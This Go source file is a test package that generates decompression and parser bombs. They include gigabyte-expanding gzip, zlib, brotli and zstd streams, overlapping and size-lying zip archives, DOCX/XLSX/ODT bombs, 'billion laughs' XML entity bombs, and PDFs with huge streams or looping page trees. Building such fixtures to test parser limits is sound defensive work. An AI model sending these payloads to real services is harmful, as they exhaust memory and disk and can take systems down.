// Package bombtest makes decompression bombs for tests: gzip, zlib, raw
// DEFLATE, brotli and zstd streams, a PDF with a huge FlateDecode stream, a DOCX whose
// document part inflates hugely, and XML entity bombs ("billion
// laughs"). A stream that expands to a gibibyte is about a mebibyte and
// is made in milliseconds: a mebibyte of one byte is compressed once, and
// its compressed form, which after the first repeats exactly (the window
// then holds only that byte), is copied.
package bombtest

import (
	"archive/zip"
	"bytes"
	"cmp"
	"compress/flate"
	"compress/gzip"
	"encoding/binary"
	"fmt"
	"hash/adler32"
	"hash/crc32"
	"io"

	"github.com/andybalholm/brotli"
)

const chunk = 1 << 20

// A Stream is a raw DEFLATE stream and what it expands to: Prefix, then
// N bytes of Fill repeated, then Suffix.
type Stream struct {
	Deflate []byte
	Prefix  []byte
	Fill    []byte // the unit repeated
	N       int64  // whole chunks of about 1 MiB of Fill (rounded up)
	Suffix  []byte
}

// Size is the number of bytes the stream expands to.
func (s Stream) Size() int64 { return int64(len(s.Prefix)) + s.N + int64(len(s.Suffix)) }

// Deflate returns the raw DEFLATE stream of prefix, n bytes of fill
// (rounded up to a whole MiB) and suffix.
func Deflate(prefix []byte, fill byte, n int64, suffix []byte) Stream {
	return Repeat(prefix, []byte{fill}, n, suffix)
}

// Repeat returns the raw DEFLATE stream of prefix, unit repeated to about
// n bytes (rounded up to whole chunks of the largest multiple of the
// unit's length not above 1 MiB) and suffix: "<a>" repeated nests
// elements, ` a=""` makes attributes.
func Repeat(prefix, unit []byte, n int64, suffix []byte) Stream {
	size := int64(chunk / len(unit) * len(unit))
	chunks := max((n+size-1)/size, 1)
	one := bytes.Repeat(unit, chunk/len(unit))
	out := repeated(func(b *bytes.Buffer) flusher {
		w, _ := flate.NewWriter(b, flate.BestCompression)
		return w
	}, prefix, one, chunks, suffix)
	return Stream{Deflate: out, Prefix: prefix, Fill: unit, N: chunks * size, Suffix: suffix}
}

// A flusher is a compressing writer that can end its output so far on
// a byte boundary (Flush): flate's, brotli's.
type flusher interface {
	io.Writer
	Flush() error
	Close() error
}

// repeated returns the compressed stream (by a writer newW makes) of
// prefix, chunks copies of one and suffix. After a chunk or two the
// compressor's window holds only copies of one, and a chunk (ended by a
// flush, so byte-aligned) compresses to the same bytes every time: it
// finds two equal ones in a row and copies them, instead of compressing
// every chunk.
func repeated(newW func(*bytes.Buffer) flusher, prefix, one []byte, chunks int64, suffix []byte) []byte {
	var buf bytes.Buffer
	w := newW(&buf)
	_, _ = w.Write(prefix)
	var ends []int
	for len(ends) < 3 || !bytes.Equal(buf.Bytes()[ends[len(ends)-3]:ends[len(ends)-2]], buf.Bytes()[ends[len(ends)-2]:ends[len(ends)-1]]) {
		if len(ends) > 8 {
			panic("bombtest: the compressed chunks do not repeat")
		}
		_, _ = w.Write(one)
		_ = w.Flush()
		ends = append(ends, buf.Len())
	}
	k := len(ends)
	if chunks < int64(k-1) { // smaller than the warm-up: compress it plainly
		var small bytes.Buffer
		w := newW(&small)
		_, _ = w.Write(prefix)
		for range chunks {
			_, _ = w.Write(one)
		}
		_, _ = w.Write(suffix)
		_ = w.Close()
		return small.Bytes()
	}
	head := buf.Bytes()[:ends[k-2]] // prefix and k-1 chunks
	rep := buf.Bytes()[ends[k-2]:ends[k-1]]
	_, _ = w.Write(suffix)
	_ = w.Close()
	tail := buf.Bytes()[ends[k-1]:]
	out := make([]byte, 0, len(head)+int(chunks)*len(rep)+len(tail))
	out = append(out, head...)
	for range chunks - int64(k-1) {
		out = append(out, rep...)
	}
	return append(out, tail...)
}

// Brotli returns s as a brotli stream (RFC 7932, quality 4, a 4 MiB
// window): a GiB of one byte is about 13 KiB.
func (s Stream) Brotli() []byte {
	one := bytes.Repeat(s.Fill, chunk/len(s.Fill))
	return repeated(func(b *bytes.Buffer) flusher {
		return brotli.NewWriterOptions(b, brotli.WriterOptions{Quality: 4, LGWin: 22})
	}, s.Prefix, one, s.N/int64(len(one)), s.Suffix)
}

// ZstdOptions shape the zstd frames Stream.Zstd makes of a stream.
type ZstdOptions struct {
	// WindowLog is the window the frames declare: 1<<WindowLog bytes
	// (10–41); 0 is 23 (8 MiB, what RFC 9659 allows HTTP).
	WindowLog int
	// SingleSegment declares no window: a frame's content size is its
	// window (a GiB, for a frame of a GiB).
	SingleSegment bool
	// Frames is how many frames the content is split into, concatenated;
	// 0 is 1.
	Frames int
}

// zstdBlock is the largest block of a zstd frame (Block_Maximum_Size).
const zstdBlock = 128 << 10

// Zstd returns s (of a fill of one byte) as zstd frames (RFC 8878), made
// by hand: each declares its content size and holds a raw block (the
// prefix, in the first frame), then RLE blocks of 128 KiB of the fill
// (4 bytes each: a GiB is 32 KiB), then a raw block (the suffix, in the
// last frame). No checksum.
func (s Stream) Zstd(o ZstdOptions) []byte {
	if len(s.Fill) != 1 {
		panic("bombtest: zstd of a fill of one byte only")
	}
	frames := int64(max(o.Frames, 1))
	blocks := s.N / zstdBlock
	per := (blocks + frames - 1) / frames
	var out []byte
	for f := range frames {
		first, last := f == 0, f == frames-1
		n := min(per, blocks-f*per)
		var pre, suf []byte
		if first {
			pre = s.Prefix
		}
		if last {
			suf = s.Suffix
		}
		out = zstdHeader(out, o, uint64(len(pre)+len(suf))+uint64(n)*zstdBlock)
		out = zstdBlockHeader(out, 0, len(pre), false)
		out = append(out, pre...)
		for range n {
			out = zstdBlockHeader(out, 1, zstdBlock, false)
			out = append(out, s.Fill[0])
		}
		out = zstdBlockHeader(out, 0, len(suf), true)
		out = append(out, suf...)
	}
	return out
}

// zstdHeader appends a frame header (magic, descriptor, window, an
// 8-byte content size) to b.
func zstdHeader(b []byte, o ZstdOptions, size uint64) []byte {
	b = binary.LittleEndian.AppendUint32(b, 0xFD2FB528)
	if o.SingleSegment {
		b = append(b, 3<<6|1<<5)
	} else {
		b = append(b, 3<<6, byte(cmp.Or(o.WindowLog, 23)-10)<<3)
	}
	return binary.LittleEndian.AppendUint64(b, size)
}

// zstdBlockHeader appends a block header: type 0 raw, 1 RLE; size the
// bytes the block holds (raw) or repeats (RLE).
func zstdBlockHeader(b []byte, typ, size int, last bool) []byte {
	h := uint32(size)<<3 | uint32(typ)<<1
	if last {
		h |= 1
	}
	return append(b, byte(h), byte(h>>8), byte(h>>16))
}

// ZstdSkippable returns n skippable frames (RFC 8878 §3.1.2) of size
// zero bytes each: nothing to decode.
func ZstdSkippable(n int, size uint32) []byte {
	frame := binary.LittleEndian.AppendUint32(nil, 0x184D2A50)
	frame = binary.LittleEndian.AppendUint32(frame, size)
	frame = append(frame, make([]byte, size)...)
	return bytes.Repeat(frame, n)
}

// crc returns the CRC-32 (IEEE) of what s expands to.
func (s Stream) crc() uint32 {
	crc := crc32.NewIEEE()
	_, _ = crc.Write(s.Prefix)
	one := bytes.Repeat(s.Fill, chunk/len(s.Fill))
	for range s.N / int64(len(one)) {
		_, _ = crc.Write(one)
	}
	_, _ = crc.Write(s.Suffix)
	return crc.Sum32()
}

// adler returns the Adler-32 of what s expands to: the chunks' sum made
// from one chunk's by combining (zlib's adler32_combine), not by reading
// a gibibyte.
func (s Stream) adler() uint32 {
	one := bytes.Repeat(s.Fill, chunk/len(s.Fill))
	n := int64(len(one))
	sum := adler32.Checksum(s.Prefix)
	block, k := adler32.Checksum(one), s.N/n
	for k > 0 { // sum += k copies of block: by doubling block
		if k&1 == 1 {
			sum = adlerCombine(sum, block, n)
		}
		block, n, k = adlerCombine(block, block, n), 2*n, k>>1
	}
	return adlerCombine(sum, adler32.Checksum(s.Suffix), int64(len(s.Suffix)))
}

// adlerCombine returns the Adler-32 of A followed by B from a1, the
// Adler-32 of A, a2, that of B, and len2, the length of B (zlib's
// adler32_combine).
func adlerCombine(a1, a2 uint32, len2 int64) uint32 {
	const base = 65521
	rem := uint32(len2 % base)
	sum1 := a1 & 0xffff
	sum2 := uint32(uint64(rem) * uint64(sum1) % base)
	sum1 += (a2 & 0xffff) + base - 1
	sum2 += (a1 >> 16) + (a2 >> 16) + base - rem
	if sum1 >= base {
		sum1 -= base
	}
	if sum1 >= base {
		sum1 -= base
	}
	if sum2 >= base<<1 {
		sum2 -= base << 1
	}
	if sum2 >= base {
		sum2 -= base
	}
	return sum1 | sum2<<16
}

// Gzip returns s as a gzip member (RFC 1952), with its CRC and size.
func (s Stream) Gzip() []byte {
	var b bytes.Buffer
	zw := gzip.NewWriter(&b)
	_ = zw.Close()
	hdr := b.Bytes()[:10]
	crc := s.crc()
	out := append(bytes.Clone(hdr), s.Deflate...)
	out = binary.LittleEndian.AppendUint32(out, crc)
	return binary.LittleEndian.AppendUint32(out, uint32(s.Size()))
}

// Zlib returns s as a zlib stream (RFC 1950): what HTTP's "deflate"
// content coding and PDF's FlateDecode are.
func (s Stream) Zlib() []byte {
	ad := s.adler()
	out := append([]byte{0x78, 0xda}, s.Deflate...)
	return binary.BigEndian.AppendUint32(out, ad)
}

// HTML returns a gzip-able HTML page of about n bytes: a paragraph of
// n spaces between words.
func HTML(n int64) Stream {
	return Deflate([]byte("<!DOCTYPE html><html><head><title>A bomb</title></head><body><p>It starts like a page"), ' ', n,
		[]byte(" and ends like one.</p></body></html>"))
}

// PDF returns a one-page PDF whose content stream is a FlateDecode
// stream of n zero bytes (an n of 1 GiB makes a PDF of about 1 MiB).
func PDF(n int64) []byte {
	s := Deflate(nil, 0, n, nil).Zlib()
	p := newPDFFile("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
	p.obj("<< /Type /Catalog /Pages 2 0 R >>", nil)
	p.obj("<< /Type /Pages /Kids [3 0 R] /Count 1 >>", nil)
	p.obj("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << >> >>", nil)
	p.obj(fmt.Sprintf("<< /Length %d /Filter /FlateDecode >>", len(s)), s)
	p.obj("<< /Title (A bomb) >>", nil)
	return p.end(" /Info 5 0 R")
}

// A pdfFile writes a PDF with a classic cross-reference table: objects
// numbered from 1 in the order written, the first the catalog.
type pdfFile struct {
	b    bytes.Buffer
	offs []int
}

// newPDFFile starts a PDF with header.
func newPDFFile(header string) *pdfFile {
	p := &pdfFile{}
	p.b.WriteString(header)
	return p
}

// obj writes the next object: its dictionary and, if stream is not nil,
// its stream.
func (p *pdfFile) obj(dict string, stream []byte) {
	p.offs = append(p.offs, p.b.Len())
	fmt.Fprintf(&p.b, "%d 0 obj\n%s", len(p.offs), dict)
	if stream != nil {
		p.b.WriteString("\nstream\n")
		p.b.Write(stream)
		p.b.WriteString("\nendstream")
	}
	p.b.WriteString("\nendobj\n")
}

// end writes the cross-reference table and the trailer (the catalog as
// its root, and extra entries) and returns the file.
func (p *pdfFile) end(extra string) []byte {
	x := p.b.Len()
	fmt.Fprintf(&p.b, "xref\n0 %d\n0000000000 65535 f \n", len(p.offs)+1)
	for _, o := range p.offs {
		fmt.Fprintf(&p.b, "%010d 00000 n \n", o)
	}
	fmt.Fprintf(&p.b, "trailer\n<< /Size %d /Root 1 0 R%s >>\nstartxref\n%d\n%%%%EOF\n", len(p.offs)+1, extra, x)
	return p.b.Bytes()
}

// A Part is a member of a zip archive: Name, and either Data (stored
// deflated) or a Stream (written as it is). A Stream's member declares
// the size it expands to, or Declare bytes if that is not 0: a member
// that lies about its size.
type Part struct {
	Name    string
	Data    []byte
	Stream  *Stream
	Declare int64
}

// Zip returns a zip archive of parts.
func Zip(parts ...Part) []byte {
	var b bytes.Buffer
	zw := zip.NewWriter(&b)
	for _, p := range parts {
		if p.Stream == nil {
			w, err := zw.Create(p.Name)
			if err != nil {
				panic(err)
			}
			_, _ = w.Write(p.Data)
			continue
		}
		crc := p.Stream.crc()
		size := p.Stream.Size()
		if p.Declare != 0 {
			size = p.Declare
		}
		w, err := zw.CreateRaw(&zip.FileHeader{Name: p.Name, Method: zip.Deflate, CRC32: crc,
			CompressedSize64: uint64(len(p.Stream.Deflate)), UncompressedSize64: uint64(size)})
		if err != nil {
			panic(err)
		}
		_, _ = w.Write(p.Stream.Deflate)
	}
	if err := zw.Close(); err != nil {
		panic(err)
	}
	return b.Bytes()
}

// Overlapping returns a zip archive of one member's data, s, named by
// every one of names: their central directory entries all point to the
// same local entry (an "overlapping" zip bomb: n names expand n times
// the one stream, and the archive is not larger).
func Overlapping(s Stream, names ...string) []byte {
	one := Zip(Part{Name: "x", Stream: &s})
	le := binary.LittleEndian
	end := one[len(one)-22:] // the end of central directory record, no comment
	cdSize, cdOff := le.Uint32(end[12:]), le.Uint32(end[16:])
	rec := one[cdOff : cdOff+cdSize]
	fixed, rest := rec[:46], rec[46+int(le.Uint16(rec[28:])):]
	out := bytes.Clone(one[:cdOff])
	for _, name := range names {
		r := bytes.Clone(fixed)
		le.PutUint16(r[28:], uint16(len(name)))
		out = append(append(append(out, r...), name...), rest...)
	}
	e := bytes.Clone(end)
	le.PutUint16(e[8:], uint16(len(names)))
	le.PutUint16(e[10:], uint16(len(names)))
	le.PutUint32(e[12:], uint32(len(out)-int(cdOff)))
	return append(out, e...)
}

const contentTypes = `<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">` +
	`<Default Extension="xml" ContentType="application/xml"/>` +
	`<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`

const wordStart = `<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>`
const wordEnd = `</w:t></w:r></w:p></w:body></w:document>`

// DOCX returns a DOCX whose word/document.xml is one paragraph of n
// letters: well-formed, and a zip bomb for n of a gibibyte.
func DOCX(n int64) []byte {
	s := Deflate([]byte(wordStart), 'a', n, []byte(wordEnd))
	return Zip(Part{Name: "[Content_Types].xml", Data: []byte(contentTypes)}, Part{Name: "word/document.xml", Stream: &s})
}

// Laughs returns an XML document that a parser expanding entities
// would blow up to 10^levels copies of "lol" ("billion laughs": 9
// levels), its root element holding the last entity.
func Laughs(root string, levels int) []byte {
	var b bytes.Buffer
	fmt.Fprintf(&b, "<?xml version=\"1.0\"?>\n<!DOCTYPE %s [\n<!ENTITY lol0 \"lol\">\n", root)
	for i := 1; i <= levels; i++ {
		fmt.Fprintf(&b, "<!ENTITY lol%d \"%s\">\n", i, bytes.Repeat(fmt.Appendf(nil, "&lol%d;", i-1), 10))
	}
	fmt.Fprintf(&b, "]>\n%s", root)
	return b.Bytes()
}

// LaughsDOCX returns a DOCX whose document part is a billion laughs.
func LaughsDOCX() []byte {
	doc := Laughs("w:document", 9)
	doc = bytes.Replace(doc, []byte("]>\nw:document"),
		[]byte(`]><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>&lol9;</w:t></w:r></w:p></w:body></w:document>`), 1)
	return Zip(Part{Name: "[Content_Types].xml", Data: []byte(contentTypes)}, Part{Name: "word/document.xml", Data: doc})
}

// XMLDOCX returns a DOCX whose word/document.xml is a paragraph, then
// head, unit repeated to about n bytes, and tail, then the document's
// end: XML bombs other than entities — `<a>` nested, ` a=""` attributes
// of one tag, a comment or CDATA section of '<'.
func XMLDOCX(head, unit string, n int64, tail string) []byte {
	s := Repeat([]byte(wordStart+`A paragraph before the bomb.`+wordEnd[:len(wordEnd)-len(`</w:body></w:document>`)]+head), []byte(unit), n,
		[]byte(tail+`</w:body></w:document>`))
	return Zip(Part{Name: "[Content_Types].xml", Data: []byte(contentTypes)}, Part{Name: "word/document.xml", Stream: &s})
}

// LaughsODT returns an ODT whose content.xml is a billion laughs.
func LaughsODT() []byte {
	doc := Laughs("office:document-content", 9)
	doc = bytes.Replace(doc, []byte("]>\noffice:document-content"),
		[]byte(`]><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body><office:text><text:p>&lol9;</text:p></office:text></office:body></office:document-content>`), 1)
	return Zip(Part{Name: "mimetype", Data: []byte("application/vnd.oasis.opendocument.text")}, Part{Name: "content.xml", Data: doc})
}

// PDFObjects returns a PDF of the objects given (numbered from 1, the
// first the catalog) with its cross-reference table: for page trees
// and object graphs of any shape.
func PDFObjects(objs ...string) []byte {
	p := newPDFFile("%PDF-1.7\n")
	for _, o := range objs {
		p.obj(o, nil)
	}
	return p.end("")
}

// PDFObjectStream returns a one-page PDF (1.5, with a cross-reference
// stream) whose page object lies in an object stream (/Type /ObjStm)
// that FlateDecode expands to about n bytes: the page's object, then n
// spaces. A reader must decode the object stream to find the page.
func PDFObjectStream(n int64) []byte {
	page := "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << >> >>"
	head := "3 0 "
	objstm := Deflate([]byte(head+page), ' ', n, nil).Zlib()
	content := []byte("BT /F1 12 Tf 72 712 Td (An object stream bomb) Tj ET")
	var b bytes.Buffer
	b.WriteString("%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
	offs := map[int]int{}
	obj := func(num int, dict string, stream []byte) {
		offs[num] = b.Len()
		fmt.Fprintf(&b, "%d 0 obj\n%s", num, dict)
		if stream != nil {
			b.WriteString("\nstream\n")
			b.Write(stream)
			b.WriteString("\nendstream")
		}
		b.WriteString("\nendobj\n")
	}
	obj(1, "<< /Type /Catalog /Pages 2 0 R >>", nil)
	obj(2, "<< /Type /Pages /Kids [3 0 R] /Count 1 >>", nil)
	obj(4, fmt.Sprintf("<< /Length %d >>", len(content)), content)
	obj(5, fmt.Sprintf("<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>", len(head), len(objstm)), objstm)
	// The cross-reference stream, object 6: entries of 1 + 4 + 2 bytes.
	var x bytes.Buffer
	entry := func(typ byte, f2 uint32, f3 uint16) {
		x.WriteByte(typ)
		x.Write([]byte{byte(f2 >> 24), byte(f2 >> 16), byte(f2 >> 8), byte(f2)})
		x.Write([]byte{byte(f3 >> 8), byte(f3)})
	}
	xref := b.Len()
	entry(0, 0, 65535)
	entry(1, uint32(offs[1]), 0)
	entry(1, uint32(offs[2]), 0)
	entry(2, 5, 0) // object 3: the first object of stream 5
	entry(1, uint32(offs[4]), 0)
	entry(1, uint32(offs[5]), 0)
	entry(1, uint32(xref), 0)
	obj(6, fmt.Sprintf("<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length %d >>", x.Len()), x.Bytes())
	fmt.Fprintf(&b, "startxref\n%d\n%%%%EOF\n", xref)
	return b.Bytes()
}

const sheetTypes = `<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">` +
	`<Default Extension="xml" ContentType="application/xml"/>` +
	`<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>`

const sheetStart = `<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>`
const sheetEnd = `</t></is></c></row></sheetData></worksheet>`

// XLSX returns an XLSX whose first worksheet is one cell of n letters,
// its member declaring declare bytes (0: its true size): a zip bomb for
// n of a gibibyte, and one that lies about its size for a small declare.
func XLSX(n, declare int64) []byte {
	s := Deflate([]byte(sheetStart), 'a', n, []byte(sheetEnd))
	return Zip(Part{Name: "[Content_Types].xml", Data: []byte(sheetTypes)},
		Part{Name: "xl/workbook.xml", Data: []byte(`<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets><sheet name="A" sheetId="1"/></sheets></workbook>`)},
		Part{Name: "xl/worksheets/sheet1.xml", Stream: &s, Declare: declare})
}

// storer returns a function that adds a stored (uncompressed) member to zw.
func storer(zw *zip.Writer) func(name string, data []byte) {
	return func(name string, data []byte) {
		w, err := zw.CreateHeader(&zip.FileHeader{Name: name, Method: zip.Store})
		if err != nil {
			panic(err)
		}
		_, _ = w.Write(data)
	}
}

// ManySheets returns an XLSX of n worksheets of one small cell each
// (a zip of n+2 entries; 100,000 makes about 12 MB).
func ManySheets(n int) []byte {
	var b bytes.Buffer
	zw := zip.NewWriter(&b)
	add := storer(zw)
	add("[Content_Types].xml", []byte(sheetTypes))
	add("xl/workbook.xml", []byte(`<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets><sheet name="A" sheetId="1"/></sheets></workbook>`))
	cell := []byte(sheetStart + "cell" + sheetEnd)
	for i := range n {
		add(fmt.Sprintf("xl/worksheets/sheet%d.xml", i+1), cell)
	}
	if err := zw.Close(); err != nil {
		panic(err)
	}
	return b.Bytes()
}

// ODT returns an ODT whose content.xml is one paragraph of n letters.
func ODT(n int64) []byte {
	s := Deflate([]byte(odtStart), 'a', n, []byte(odtEnd))
	return Zip(Part{Name: "mimetype", Data: []byte("application/vnd.oasis.opendocument.text")}, Part{Name: "content.xml", Stream: &s})
}

// ManyParts returns a DOCX ("docx") or ODT ("odt") of one paragraph and
// n more tiny members that no reader asks for (customXml/itemN.xml,
// Pictures/N.xml), stored: a zip of 100,000 entries is about 12 MB.
func ManyParts(kind string, n int) []byte {
	var b bytes.Buffer
	zw := zip.NewWriter(&b)
	add := storer(zw)
	extra := "customXml/item%d.xml"
	if kind == "odt" {
		extra = "Pictures/%d.xml"
		add("mimetype", []byte("application/vnd.oasis.opendocument.text"))
		add("content.xml", []byte(odtStart+"A document of many members."+odtEnd))
	} else {
		add("[Content_Types].xml", []byte(contentTypes))
		add("word/document.xml", []byte(wordStart+"A document of many members."+wordEnd))
	}
	for i := range n {
		add(fmt.Sprintf(extra, i+1), []byte("<x/>"))
	}
	if err := zw.Close(); err != nil {
		panic(err)
	}
	return b.Bytes()
}

// OverlappingDoc returns a DOCX ("docx") or ODT ("odt") whose every
// part a reader asks for (docProps/core.xml and word/document.xml;
// META-INF/manifest.xml, meta.xml and content.xml) and extra more names
// are one member: a document of n letters, its central directory
// entries all pointing to the one local entry (the overlapping kind of
// zip bomb, "zbsm"). extra is at most 65,000: the archive has no zip64
// end record.
func OverlappingDoc(kind string, n int64, extra int) []byte {
	s := Deflate([]byte(wordStart), 'a', n, []byte(wordEnd))
	names := []string{"docProps/core.xml", "word/document.xml"}
	if kind == "odt" {
		s = Deflate([]byte(odtStart), 'a', n, []byte(odtEnd))
		names = []string{"META-INF/manifest.xml", "meta.xml", "content.xml"}
	}
	for i := range extra {
		names = append(names, fmt.Sprintf("part%d.xml", i+1))
	}
	return Overlapping(s, names...)
}

const odtStart = `<?xml version="1.0" encoding="UTF-8"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body><office:text><text:p>`
const odtEnd = `</text:p></office:text></office:body></office:document-content>`

// Nested returns head, then unit repeated n times, then tail: elements
// nested n deep when unit opens one ("<a>").
func Nested(head, unit string, n int, tail string) []byte {
	b := make([]byte, 0, len(head)+len(unit)*n+len(tail))
	b = append(b, head...)
	for range n {
		b = append(b, unit...)
	}
	return append(b, tail...)
}

// LaughsIn returns a billion laughs (Laughs, 9 levels) whose document is
// body, which names &lol9; where a parser expanding entities would blow
// it up: a sitemap's <loc>, a feed item's <title>.
func LaughsIn(root, body string) []byte {
	return bytes.Replace(Laughs(root, 9), []byte("]>\n"+root), []byte("]>\n"+body), 1)
}

// PDFImage returns a one-page PDF whose page draws an image XObject of
// 50,000 × 50,000 RGB pixels whose FlateDecode stream expands to about
// n zero bytes (7.5 GB of pixels declared), and shows a line of text.
func PDFImage(n int64) []byte {
	img := Deflate(nil, 0, n, nil).Zlib()
	content := "q 612 0 0 792 0 0 cm /Im1 Do Q BT /F1 12 Tf 72 712 Td (A page with a picture) Tj ET"
	p := newPDFFile("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
	p.obj("<< /Type /Catalog /Pages 2 0 R >>", nil)
	p.obj("<< /Type /Pages /Kids [3 0 R] /Count 1 >>", nil)
	p.obj("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /XObject << /Im1 5 0 R >> /Font << /F1 6 0 R >> >> >>", nil)
	p.obj(fmt.Sprintf("<< /Length %d >>", len(content)), []byte(content))
	p.obj(fmt.Sprintf("<< /Type /XObject /Subtype /Image /Width 50000 /Height 50000 /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /FlateDecode /Length %d >>", len(img)), img)
	p.obj("<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>", nil)
	return p.end("")
}

// PDFPageLoop returns a PDF whose page tree loops: the root's kid is a
// page tree node whose kid is the root again, and a page besides.
func PDFPageLoop() []byte {
	return PDFObjects("<< /Type /Catalog /Pages 2 0 R >>",
		"<< /Type /Pages /Kids [3 0 R] /Count 2 >>",
		"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R 4 0 R] /Count 2 >>",
		"<< /Type /Page /Parent 3 0 R /MediaBox [0 0 612 792] >>")
}
